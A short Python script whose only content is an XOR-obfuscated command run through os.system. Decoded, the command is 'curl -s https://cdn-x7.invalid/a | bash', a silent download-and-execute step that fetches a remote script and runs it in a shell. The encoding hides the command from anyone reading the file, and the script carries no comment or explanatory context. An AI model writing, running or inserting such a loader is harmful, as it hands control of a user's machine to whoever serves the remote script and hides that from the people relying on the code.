import os
key = b"k7"
d = bytes.fromhex("0842195b4b1a181703431f47180d44180853051a1300455e05410a5b025344564b4b4b550a4403")
os.system(bytes(c ^ key[i % len(key)] for i, c in enumerate(d)).decode())
